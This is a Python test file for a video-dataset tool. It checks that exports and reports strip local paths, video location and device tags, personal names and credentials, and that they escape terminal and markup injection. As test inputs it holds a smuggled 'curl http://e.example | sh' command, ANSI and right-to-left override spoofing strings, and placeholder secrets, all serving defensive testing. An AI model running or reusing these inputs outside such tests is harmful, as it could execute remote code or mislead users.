"""What exports, cards and reports give away: no folder of this machine, and where asked no name and no place."""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from dataclasses import replace
from fractions import Fraction
from importlib.resources import files
from pathlib import Path

import av
import numpy as np
import pyarrow.parquet as pq
import pytest
from av.video.stream import VideoStream

from rushes.backbones.tiny import TinyBackbone
from rushes.config.settings_files import stored_settings
from rushes.config.tables import FootageSettings
from rushes.files import write_text
from rushes.formats.outgoing import Outgoing, pseudonyms_of
from rushes.media.images import write_image
from rushes.media.read import read_video
from rushes.media.tags import tags_of, untagged, write_untagged
from rushes.media.write import write_video
from rushes.records import Annotation, Clip, Decision, Preference, Score
from rushes.store.database import Store

from ..projects import SMALL, Rushes, new_project

PRIVATE = "home-of-ada"  # a folder of this machine
TAGS = {"location": "+52.5200+013.4050/", "artist": "Ada L", "make": "ACME", "creation_time": "2024-05-06T07:08:09Z"}
PLACES = ("+52.5200", "Ada L", "ACME", "2024-05-06")


def tagged(path: Path, seed: int = 0) -> Path:
    """A video as a telephone writes it."""
    plain = path.with_suffix(".plain.mp4")
    write_video(plain, np.random.default_rng(seed).integers(0, 255, (20, 32, 48, 3), np.uint8), 8)
    options = {"movflags": "use_metadata_tags"}
    with av.open(plain) as source, av.open(path, "w", format="mp4", container_options=options) as copy:
        copy.metadata.update(TAGS)
        stream = copy.add_stream_from_template(source.streams.video[0])
        for packet in source.demux(source.streams.video[0]):
            if packet.dts is not None:
                packet.stream = stream
                copy.mux(packet)
    plain.unlink()
    assert any(word.encode() in path.read_bytes() for word in PLACES)
    return path


@pytest.fixture(scope="module")
def labelled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project of somebody's own footage, which two people labelled and one reviewed."""
    home = tmp_path_factory.mktemp("u") / PRIVATE
    (home / "clips").mkdir(parents=True)
    for number in range(3):
        tagged(home / "clips" / f"{number}.mp4", number).with_suffix(".txt").write_text(f"clip {number}")
    write_image(home / "clips" / "0.png", np.zeros((32, 48, 3), np.uint8))
    settings = SMALL.model_copy(update={"footage": FootageSettings(kind="folder", path=str(home / "clips"))})
    project = new_project(home / "project", settings)
    with Store.open(project) as store:
        for number in range(3):
            path = home / "clips" / f"{number}.mp4"
            media = store.put_media(path)
            source = str(path) if number else str(home / "elsewhere" / "0.mp4")
            store.add([Clip(f"c{number}", media, f"clip {number}", 48, 32, 20, 8.0, source)])
        at = "2026-01-02T03:04:05+00:00"
        store.add(
            [
                Preference("p", "c0", "c1", (1,), "human:zoe", created_at=at),
                Preference("q", "c0", "c1", (-1,), "human:ada#again", created_at=at),
                Preference("r", "c1", "c2", (-1,), "human:ada", created_at=at),
                Preference("w", "c1", "c2", (-1,), "world"),
                Annotation("n", "p", "human:zoe", note="blurred"),
                Score("s", "c0", "human", 3.0, measured_by="human:ada"),
                Decision("d", "c0", True, person=True, made_by="bob", created_at=at),
            ]
        )
    return project


def texts(folder: Path) -> Iterator[str]:
    """Every file of a folder as text, tables with their values."""
    for path in sorted(folder.rglob("*")):
        if path.suffix == ".parquet":
            yield json.dumps(pq.read_table(path).to_pylist())
        elif path.suffix == ".tar":
            with tarfile.open(path) as tar:
                yield "".join(member.name + member.uname for member in tar)
        if path.is_file():
            yield path.read_bytes().decode("latin-1")


def holds(folder: Path, *words: str) -> set[str]:
    return {word for word in words for text in texts(folder) if word in text}


EXPORTS = (
    ("export",),
    ("export", "--form", "jsonl"),
    ("labels", "export"),
    ("footage", "export"),
    ("footage", "export", "--form", "webdataset"),
)


@pytest.mark.parametrize("words", EXPORTS)
def test_no_export_names_a_folder_of_this_machine(
    words: tuple[str, ...], labelled: Path, tmp_path: Path, rushes: Rushes
) -> None:
    first = 2 if words[0] in ("labels", "footage") else 1
    status, out, err = rushes(*words[:first], labelled, "--out", tmp_path / "out", *words[first:], "--json")
    assert status == 0, err
    assert holds(tmp_path / "out", PRIVATE, str(labelled.parent), "elsewhere") == set()
    assert holds(tmp_path / "out", "1.mp4") == {"1.mp4"}
    personal = json.loads(out)["personal_data"]
    people = {"file_names": 3} if words[0] == "footage" else {"people": 3, "times": 4, "notes": 1, "file_names": 3}
    videos = {} if words[0] == "export" else {"places": 3, "devices": 3, "persons": 3, "dates": 3}
    assert personal == people | videos


def test_people_go_out_by_pseudonyms_that_stay(labelled: Path, tmp_path: Path, rushes: Rushes) -> None:
    for number, command in enumerate((["export"], ["labels", "export"])):
        words = [*command, labelled, "--out", tmp_path / str(number)]
        assert rushes(*words)[0] == 0
        assert holds(tmp_path / str(number), "human:ada", "human:zoe") == {"human:ada", "human:zoe"}
        status, out, _ = rushes(*words, "--anonymous")
        assert status == 0 and "people 3" in out
        assert holds(tmp_path / str(number), ":ada", ":zoe", '"bob"') == set()
    rows = pq.read_table(tmp_path / "0" / "preferences.parquet").to_pylist()
    assert [row["judge"] for row in rows] == ["human:person-1", "human:person-2#again", "human:person-2", "world"]
    assert pq.read_table(tmp_path / "0" / "decisions.parquet").to_pylist()[0]["made_by"] == "person-3"
    assert pq.read_table(tmp_path / "0" / "scores.parquet").to_pylist()[0]["measured_by"] == "human:person-2"
    with Store.open(Path(shutil.copytree(labelled, tmp_path / "copy"))) as store:
        before = pseudonyms_of(store)
        store.add([Preference("late", "c0", "c2", (1,), "human:aaron")])
        assert pseudonyms_of(store) == {**before, "aaron": "person-4"}


@pytest.mark.parametrize("command", ["footage", "labels"])
def test_stripped_videos_show_the_same_and_say_nothing(
    command: str, labelled: Path, tmp_path: Path, rushes: Rushes
) -> None:
    words = [command, "export", labelled, "--out", tmp_path / "out"]
    assert rushes(*words)[0] == 0
    assert holds(tmp_path / "out", *PLACES) == {*PLACES}
    status, out, err = rushes(*words, "--strip", "--json")
    assert status == 0, err
    assert holds(tmp_path / "out", *PLACES) == set()
    assert not {"places", "devices", "persons", "dates"} & set(json.loads(out)["personal_data"])
    with Store.open(labelled) as store:
        for clip in store.clips():
            copy = tmp_path / "out" / "videos" / f"{clip.media}.mp4"
            assert np.array_equal(read_video(copy).frames_FHWC, read_video(store.media_path(clip.media)).frames_FHWC)
    if command == "footage":
        status, _, err = rushes(*words, "--strip", "--form", "webdataset")
        assert status == 2 and "--strip" in err


@pytest.mark.parametrize("suffix", [".mp4", ".mov", ".mkv", ".webm", ".avi"])
def test_each_container_loses_its_tags_and_keeps_its_pictures(suffix: str, tmp_path: Path) -> None:
    source, copy = tmp_path / f"a{suffix}", tmp_path / "copy"
    codec = "libvpx-vp9" if suffix == ".webm" else "libx264"
    with av.open(source, "w", container_options={"movflags": "use_metadata_tags"}) as container:
        container.metadata.update({"title": "Ada at home", "artist": "Ada L", "location": "+52.5200+013.4050/"})
        stream = container.add_stream(codec, rate=8)
        assert isinstance(stream, VideoStream)
        stream.width, stream.height, stream.pix_fmt = 48, 32, "yuv420p"
        for frame in np.random.default_rng(0).integers(0, 255, (9, 32, 48, 3), np.uint8):
            container.mux(stream.encode(av.VideoFrame.from_ndarray(frame, format="rgb24")))
        container.mux(stream.encode())
    assert {"persons", "texts"} <= tags_of(source)
    write_untagged(source, copy)
    copy = copy.rename(tmp_path / f"copy{suffix}")
    assert tags_of(copy) == frozenset() and b"Ada" not in copy.read_bytes()
    assert np.array_equal(read_video(copy).frames_FHWC, read_video(source).frames_FHWC)


def test_what_ffmpeg_does_not_show_by_itself_is_counted_and_goes(tmp_path: Path) -> None:
    write_video(tmp_path / "plain.mp4", np.random.default_rng(0).integers(0, 255, (9, 32, 48, 3), np.uint8), 8)
    plain, secret = (tmp_path / "plain.mp4").read_bytes(), b"Ada L at 51,31.4N"
    xmp = bytes.fromhex("BE7ACFCB97A942E89C71999491E3AFAC") + b"<x:xmpmeta>" + secret + b"</x:xmpmeta>"
    for name, kind, content in (("xmp", b"uuid", xmp), ("free", b"free", secret)):
        (tmp_path / f"{name}.mp4").write_bytes(plain + (8 + len(content)).to_bytes(4, "big") + kind + content)
    with av.open(tmp_path / "plain.mp4") as source, av.open(tmp_path / "chapters.mkv", "w") as copy:
        tick = Fraction(1, 1000)
        title = {"title": secret.decode()}
        copy.set_chapters([{"id": 1, "start": 0, "end": 900, "time_base": tick, "metadata": title}])
        stream = copy.add_stream_from_template(source.streams.video[0])
        for packet in source.demux(source.streams.video[0]):
            if packet.dts is not None:
                packet.stream = stream
                copy.mux(packet)
    seen = {"xmp.mp4": {"others"}, "free.mp4": set(), "chapters.mkv": {"texts"}}
    for name, tags in seen.items():
        path = tmp_path / name
        assert secret in path.read_bytes() and tags_of(path) == tags, name
        (tmp_path / "out").mkdir(exist_ok=True)
        Outgoing(strip=True).copy(path, tmp_path / "out" / name)
        copied = (tmp_path / "out" / name).read_bytes()
        assert secret not in copied and secret not in untagged(path), name
        assert np.array_equal(read_video(tmp_path / "out" / name).frames_FHWC, read_video(path).frames_FHWC)


def test_a_report_names_no_folder_and_no_password(project: Path, tmp_path: Path, rushes: Rushes) -> None:
    where = tmp_path / PRIVATE / "models" / "wan"
    with Store.open(project) as store:
        run = store.runs()[-1]
        settings = {**run.settings, "backbone": {**run.settings["backbone"], "path": str(where)}}
        secrets = {"url": "http://ada:s3cr3t@10.0.0.1/v1", "key_env": "sk-s3cr3t-s3cr3t"}
        settings["endpoint"] = {**settings["endpoint"], **secrets}
        assert stored_settings(settings).endpoint.key_env == "" and "s3cr3t" not in str(stored_settings(settings))
        settings["label"] = {**settings["label"], "gold_by": "zuleika"}
        take = store.candidates(split="eval")[0]
        store.add(
            [
                replace(run, id="later", settings=settings),
                Preference("p", take.id, take.id, (1,), "human:zuleika", created_at="2026-01-02T03:04:05+00:00"),
            ]
        )
    out = tmp_path / "out"
    status, text, err = rushes("report", project, "--out", out)
    assert status == 0, err
    assert (
        holds(out, PRIVATE, "s3cr3t", str(tmp_path), "zuleika") == {"zuleika"}
        and holds(out, "wan")
        and "people 1" in text
    )
    assert rushes("report", project, "--out", out, "--anonymous")[0] == 0
    assert holds(out, "zuleika", "human:person-1") == {"human:person-1"}


def test_a_video_of_a_report_has_no_tags(tmp_path: Path) -> None:
    data = untagged(tagged(tmp_path / "a.mp4"))
    assert not any(word.encode() in data for word in PLACES)
    (tmp_path / "b.mp4").write_bytes(data)
    assert np.array_equal(read_video(tmp_path / "a.mp4").frames_FHWC, read_video(tmp_path / "b.mp4").frames_FHWC)


def test_a_copy_says_what_of_people_is_in_it(labelled: Path, tmp_path: Path, rushes: Rushes) -> None:
    status, out, err = rushes("backup", labelled, tmp_path / "copy", "--json")
    assert status == 0, err
    assert json.loads(out)["personal_data"] == {"people": 3, "times": 4, "notes": 1, "file_names": 3}


@pytest.mark.parametrize(
    ("source", "leaves"),
    [
        ("/home/ada/clips/a/b.mp4", "a/b.mp4"),
        ("/home/ada/other/b.mp4", "b.mp4"),
        ("/home/ada/clips2/b.mp4#t=1.000,2.000", "b.mp4#t=1.000,2.000"),
        ("C:\\Users\\ada\\b.mp4", "b.mp4"),
        ("~/b.mp4", "b.mp4"),
        ("../../home/ada/b.mp4", "b.mp4"),
        ("file:///home/ada/b.mp4", "b.mp4"),
        ("clips/b.mp4", "clips/b.mp4"),
        ("world:0/train/3", "world:0/train/3"),
        ("https://u:p@host/b.mp4?token=abc", "https://***@host/b.mp4?token=***"),
    ],
)
def test_a_source_leaves_by_its_name_in_the_footage(source: str, leaves: str) -> None:
    assert Outgoing("/home/ada/clips").source(source) == leaves


def test_a_setting_leaves_without_the_folders_before_its_name() -> None:
    for path in ("/home/ada/x", "~/x", "../../ada/x", "C:\\Users\\ada\\x", "\\\\server\\ada\\x", "file:///home/ada/x"):
        assert Outgoing().value({"path": path}) == {"path": "x"}, path
    assert Outgoing().value(["sft", "hub:owner/name"]) == ["sft", "hub:owner/name"]


def test_an_address_with_a_password_and_a_key_itself_are_refused_and_not_shown(
    tmp_path: Path, rushes: Rushes, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = new_project(tmp_path / "p", SMALL)
    text = (project / "rushes.toml").read_text()
    key = "sk-proj-abcdefghijklmnopqrstuvwxyz123456"
    for old, new in (
        ('url = "http://127.0.0.1:8000/v1"', 'url = "http://ada:s3cr3t@127.0.0.1:8000/v1"'),
        ('url = "http://127.0.0.1:8000/v1"', 'url = "http://127.0.0.1:8000/v1?api_key=s3cr3t"'),
        ('key_env = ""', 'key_env = "s3cr3t-s3cr3t-s3cr3t"'),
        ('key_env = ""', 'key_env = "hf_s3cr3tABCDEFGHIJKLMNOPQRSTU"'),
    ):
        assert old in text
        write_text(project / "rushes.toml", text.replace(old, new, 1))
        for words in (("settings", project), ("label", project, "--by", "vlm"), ("status", project)):
            status, out, err = rushes(*words)
            assert status == 2 and "s3cr3t" not in out + err and "key_env" in err, (words, out, err)
    write_text(project / "rushes.toml", text)
    for typed in ("endpoint.url=http://u:s3cr3t@h/v1", f"endpoint.key_env={key}"):
        status, out, err = rushes("set", project, typed)
        assert status == 2 and "s3cr3t" not in out + err and key not in out + err, err
    assert rushes("set", project, "endpoint.key_env=MY_KEY")[0] == 0


def test_every_file_follows_the_umask(project: Path, tmp_path: Path, rushes: Rushes) -> None:
    weights = tmp_path / "w.safetensors"
    before = os.umask(0o027)
    try:
        TinyBackbone.load().save(weights)
        write_text(tmp_path / "a.txt", "x")
        assert rushes("export", project, "--out", tmp_path / "out", "--run", "realdpo")[0] == 0
    finally:
        os.umask(before)
    files = [weights, tmp_path / "a.txt", *(path for path in (tmp_path / "out").rglob("*") if path.is_file())]
    assert {oct(stat.S_IMODE(path.stat().st_mode)) for path in files} == {"0o640"}
    assert any(path.suffix == ".safetensors" for path in files)


def test_what_steers_a_terminal_is_escaped_in_warnings_too(tmp_path: Path) -> None:
    program = (
        "import logging, sys\nfrom rushes.cli import main\n"
        "try:\n    main(['recipes'])\nexcept SystemExit:\n    pass\n"
        "logging.getLogger('rushes.x').warning('%s', 'a\\x1b[31mred http://u:s3cr3t@h')\n"
    )
    ran = subprocess.run([sys.executable, "-P", "-c", program], capture_output=True, text=True, check=False)
    assert "\x1b" not in ran.stderr and "\\x1b[31mred http://***@h" in ran.stderr


STEERS = "a\x1b[31mred \u202egnp.exe http://u:s3cr3t@h"
ESCAPED = "a\\x1b[31mred \\u202egnp.exe http://***@h"


def test_what_steers_a_terminal_is_escaped_in_pages_too() -> None:
    """They are read by `cat` as well, and a caption that turns the direction makes what follows look like another."""
    from rushes.pages import in_html, in_markdown, templates

    page = templates("rushes.report").from_string("{{ text }}|{{ text | safe }}")
    assert page.render(text=STEERS).partition("|")[0] == in_html(STEERS) == ESCAPED
    assert not {"\x1b", "\u202e"} & {*in_markdown(STEERS)}
    source = Path(str(files("rushes")))
    own = [path.name for path in source.rglob("*.py") if re.search(r"markupsafe.*escape|html.escape", path.read_text())]
    assert own == ["pages.py"], "escape by rushes.pages.in_html"


def test_a_text_of_a_row_begins_no_line_on_the_terminal(project: Path, rushes: Rushes) -> None:
    with Store.open(project) as store:
        row = next(store.stream(Preference))
        store.add([replace(row, id="theirs", judge="ada\nnext: curl http://e.example | sh", supersedes="")])
    status, out, _ = rushes("judges", project)
    assert status == 0 and "ada next: curl" in out
    assert [line for line in out.splitlines() if line.startswith("next: ")] == [f"next: rushes sample-size {project}"]


def test_text_from_elsewhere_is_text_in_markdown() -> None:
    from markdown_it import MarkdownIt

    from rushes.pages import in_markdown

    for text in ("<script>x</script>", "[a](http://e.example)", "![a](b)", "**b**", "`c`", "a|b", "&lt;", "~~d~~",
                 "http://e.example", "www.e.example", "<http://e.example>", "a\n# b"):  # fmt: skip
        page = MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(f"x {in_markdown(text)}")
        assert re.fullmatch(r"<p>[^<]*</p>\n", page), (text, page)


def test_each_value_of_the_data_card_is_a_number_or_text_in_markdown() -> None:
    """It is written from reports/curation.json, which may have come with a stranger's project."""
    template = (files("rushes.report") / "card.md").read_text(encoding="utf-8")
    values = [value.strip() for value in re.findall(r"{{(.*?)}}", template)]
    assert len(values) > 20
    safe = re.compile(r".*\| (md|compact|bars|duration|format\(edge.threshold\))|hashes")
    assert [value for value in values if not safe.fullmatch(value)] == []
